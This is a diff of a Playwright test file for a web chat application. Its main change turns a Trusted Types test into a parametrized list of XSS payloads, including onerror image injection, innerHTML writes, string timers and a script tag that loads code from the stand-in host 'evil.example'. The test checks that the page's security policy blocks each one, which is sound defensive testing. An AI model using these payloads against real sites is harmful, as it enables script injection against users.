@@ -5,7 +5,7 @@ from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
 import pytest
-from playwright.async_api import Browser, expect
+from playwright.async_api import Browser, Error, expect
 
 from bot.screens.screen import Button, File, Screen
 from bot.web.room import LOBBY
@@ -62,24 +62,23 @@ async def test_whatever_people_write_is_text(shown_room: Hall, browser: Browser)
         assert someone.errors == []
 
 
-async def test_the_policy_stops_what_should_ever_slip_through(shown_room: Hall, browser: Browser) -> None:
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=owned()>')",
+        "document.body.innerHTML = '<img src=x onerror=owned()>'",
+        "document.body.setAttribute('onclick', 'owned()'); document.body.click()",
+        "document.body.append(Object.assign(document.createElement('script'), { src: 'http://evil.example/x.js' }))",
+        "document.body.append(Object.assign(document.createElement('script'), { text: 'owned()' }))",
+        "setTimeout('owned()')",
+    ],
+)
+async def test_the_policy_stops_what_should_ever_slip_through(shown_room: Hall, browser: Browser, attack: str) -> None:
     ann = await (await visitor(browser)).enter(shown_room.url, "Ann")
-    ran = await ann.evaluate(
-        """() => {
-            const image = document.createElement("img");
-            image.setAttribute("onerror", "window.owned = 1");
-            image.src = "data:,";
-            document.body.append(image);
-            try {
-                document.body.insertAdjacentHTML("beforeend", "<b>x</b>");
-            } catch {
-                return window.owned ?? "refused";
-            }
-            return "inserted";
-        }"""
-    )
-    assert ran == "refused"
-    assert await ann.evaluate("window.owned") is None
+    await ann.evaluate("() => { window.owned = () => { window.isOwned = true; }; }")
+    with pytest.raises(Error, match=r"TrustedHTML|TrustedScript|TrustedScriptURL"):
+        await ann.evaluate(f"() => {{ {attack} }}")
+    assert await ann.evaluate("window.isOwned") is None
 
 
 async def test_a_press_shows_that_it_is_busy_and_its_answer_takes_the_place_of_a_private_message(
@@ -92,7 +91,7 @@ async def test_a_press_shows_that_it_is_busy_and_its_answer_takes_the_place_of_a
     button = ann.page.get_by_role("button", name="My hand")
     await button.click()
     await expect(button).to_have_attribute("aria-busy", "true")
-    await button.click()
+    await button.click(force=True)
     shown_room.desk.open.set()
     await expect(button).not_to_have_attribute("aria-busy", "true")
     answer = ann.page.locator(".between", has_text="Your hand")
@@ -115,15 +114,19 @@ async def test_a_board_is_edited_in_its_place_and_nobody_is_moved(shown_room: Ha
         await shown_room.room.post(LOBBY, Screen(f"line {number}"), f"n{number}")
     log = ann.page.locator("#log")
     await expect(ann.page.get_by_text("line 29")).to_be_in_viewport()
-    await log.evaluate("(box) => { box.scrollTop = 200; }")
-    await ann.page.wait_for_function("document.getElementById('log').scrollTop === 200")
+    await log.evaluate(
+        """(box) => new Promise((done) => {
+            box.addEventListener("scroll", () => requestAnimationFrame(done), { once: true });
+            box.scrollTop = 200;
+        })"""
+    )
     await shown_room.room.edit(LOBBY, "board", Screen("The board, changed", Swatch("green", "green", (600, 500))))
     await expect(ann.page.locator("[data-id=board] img")).to_have_attribute("alt", "green")
     await shown_room.room.post(LOBBY, Screen("news"), "news")
-    await expect(ann.page.get_by_role("button", name="New messages")).to_be_visible()
+    await expect(ann.page.get_by_role("button", name="New messages", exact=True)).to_be_visible()
     assert await log.evaluate("(box) => box.scrollTop") == 200
     await expect(ann.page).to_have_title("• #lobby · Cairn")
-    await ann.page.get_by_role("button", name="New messages").click()
+    await ann.page.get_by_role("button", name="New messages", exact=True).click()
     await expect(ann.page.get_by_text("news", exact=True)).to_be_in_viewport()
     await expect(ann.page.locator("#pill")).to_be_hidden()
     await expect(ann.page).to_have_title("#lobby · Cairn")
@@ -163,7 +166,7 @@ async def test_calls_are_counted_where_nobody_looks(shown_room: Hall, browser: B
     await private.click()
     await ann.sees("Your new hand")
     await expect(private).to_have_attribute("aria-current", "page")
-    await expect(ann.page).to_have_title("Cairn · Cairn")
+    await expect(ann.page).to_have_title("Cairn")
     await shown_room.room.post(LOBBY, Screen("Ann, it is your turn.", mentions=(account,)), "n2")
     await shown_room.room.post(LOBBY, Screen("And more."), "n3")
     await expect(ann.page.locator("#channels .badge")).to_have_text("1")
